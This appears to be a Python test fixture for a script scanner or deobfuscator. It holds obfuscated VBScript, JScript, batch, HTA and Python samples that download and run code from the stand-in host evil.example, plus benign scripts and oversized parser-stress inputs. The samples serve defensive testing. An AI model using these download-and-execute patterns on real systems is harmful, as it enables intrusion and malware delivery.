"""Scripts that would act if they were run, harmless by their addresses, and honest ones."""

from __future__ import annotations

import base64
import gzip
import zlib

CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')"
SHELL = 'CreateObject("WScript.Shell").Run "calc.exe"'


def encoded(command: str) -> str:
    """As PowerShell takes it behind -EncodedCommand."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def packed(text: str, how: str = "gzip") -> str:
    """Text in gzip or raw deflate, in base64."""
    raw = gzip.compress(text.encode(), mtime=0)
    if how == "deflate":
        work = zlib.compressobj(9, zlib.DEFLATED, -15)
        raw = work.compress(text.encode()) + work.flush()
    return base64.b64encode(raw).decode()


# "MsgBox "Hello"" as Microsoft's encoder writes it; the sample is from the public decoders.
ENCODER = bytes.fromhex(
    "23407e5e4467414141413d3d5c6b6f244b362c4a437f565e474a7141514141413d3d5e237e40"
)

VBS = f'''Dim a
a = "Crea" & "teObject(""WScript.Shell"").Run ""powershell -enc {encoded(CRADLE)}"""
Execute a
'''
JS = """var a=["WScr","ipt.Sh","ell","MSXML2.XM","LHTTP"];
var s=new ActiveXObject(a[0]+a[1]+a[2]);var x=new ActiveXObject(a[3]+a[4]);
x.open("GET","ht"+"tp://evil.exa"+"mple/a.exe",0);x.send();
s.Run("cmd /c st"+"art "+"C:\\\\a.exe");
"""
BATCH = """@echo off\r
set "a=powersh"\r
set b=ell\r
set alpha=abcdefghijklmnopqrstuvwxyz\r
%a%%b% -w hidden -c "iex (New-Object Net.WebClient).DownloadString('http://evil.'+'example/p')"\r
c^e^r^tu^til -urlc^ache -f http://evil.example/b.exe %PUBLIC%\\b.exe\r
"""
HTA = f"""<html><head><hta:application id=a></head>
<script language="VBScript">{SHELL}</script></html>"""
WSF = f"""<job id="a"><script language="VBScript"><![CDATA[{SHELL}]]></script>
<script language="JScript">new ActiveXObject('MSXML2.XMLHTTP').open('GET','http://evil.example/')
</script></job>"""
_INNER = base64.b64encode(zlib.compress(b"import os\nos.system('id')")).decode()
PYTHON = f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{_INNER}')))\n"

HONEST = {
    "greet.ps1": 'param($Name)\n# Says hello.\nWrite-Host "Hello, $Name"\n',
    "count.vbs": 'Dim n\nn = 1 + 2\nMsgBox "There are " & n & " of them"\n',
    "build.bat": "@echo off\r\nset OUT=dist\r\nmkdir %OUT%\r\ncopy a.txt %OUT%\\a.txt\r\n",
    "sort.js": "function sort(a){return a.sort();}\nvar list=[3,1,2];sort(list);\n",
    "sum.py": "def total(numbers):\n    return sum(numbers)\nprint(total([1, 2]))\n",
}

SIZE = 1_000_000  # characters of a hostile input
BOMBS = {
    "quotes.ps1": "'" * SIZE,
    "brackets.ps1": "(" * SIZE,
    "ticks.ps1": "`" * SIZE,
    "here.ps1": '@"\n' * (SIZE // 3),
    "comments.ps1": "<#" * (SIZE // 2),
    "dollars.ps1": "$" * SIZE,
    "types.ps1": "[char]" * (SIZE // 6),
    "joins.ps1": "-join " * (SIZE // 6),
    "sum.ps1": "'a'+" * (SIZE // 4),
    "commas.ps1": "1," * (SIZE // 2),
    "dots.ps1": "a.b" * (SIZE // 3),
    "plus.ps1": "$a+='xxxxxxxxxxxxxxxx';" * (SIZE // 24),
    "format.ps1": "'{0}'-f" * (SIZE // 7),
    "replace.ps1": "'" + "a" * 100_000 + "'" + ".replace('a','aa')" * 2_000,
    "quotes.vbs": '"' * SIZE,
    "brackets.vbs": "(" * SIZE,
    "sum.vbs": '"a"&' * (SIZE // 4),
    "chr.vbs": "Chr(65)&" * (SIZE // 8),
    "remarks.vbs": "rem " * (SIZE // 4),
    "percent.bat": "@echo off\n" + "%" * SIZE,
    "set.bat": "@echo off\nset a=" + "%a%" * (SIZE // 3),
    "sets.bat": "@echo off\n" + "set a=%a%%a%xxxxxxxx\n" * (SIZE // 21),
    "carets.bat": "@echo " + "^" * SIZE,
    "parts.bat": "@echo off\n" + "%a:~0,1%" * (SIZE // 8),
    "powershell.bat": "@echo off\n" + "powershell -c " * (SIZE // 14),
    "encoder.vbe": "#@~^AAAAAA==" * (SIZE // 12),
    "base64.py": "#!python\n" + "QUFB" * (SIZE // 4),
    "strings.py": "#!python\n" + "'" * SIZE,
    "eval.js": "eval('" * (SIZE // 6),
    "words.js": "eval " * (SIZE // 5),
    "atob.js": "a=atob('" + "QUFB" * (SIZE // 4) + "');" * 3,
    "minus.js": "-" * SIZE,
    "index.js": "a[0]" * (SIZE // 4),
    "xor.js": "1^" * (SIZE // 2),
}
